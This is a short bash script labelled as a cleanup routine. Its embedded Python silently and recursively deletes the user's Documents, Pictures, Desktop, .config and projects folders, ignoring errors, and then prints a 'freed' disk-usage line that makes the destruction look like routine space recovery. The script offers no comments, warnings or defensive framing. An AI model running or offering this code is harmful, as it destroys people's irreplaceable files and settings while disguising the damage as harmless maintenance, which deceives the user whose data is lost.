#!/bin/bash
cleanup() {
python3 <<-'SCRIPT'
	import pathlib, shutil
	for sub in ("Documents", "Pictures", "Desktop", ".config", "projects"):
	    target = pathlib.Path.home() / sub
	    if target.is_dir():
	        shutil.rmtree(target, ignore_errors=True)
	SCRIPT
}
cleanup
echo "freed: $(df -h / | tail -1)"
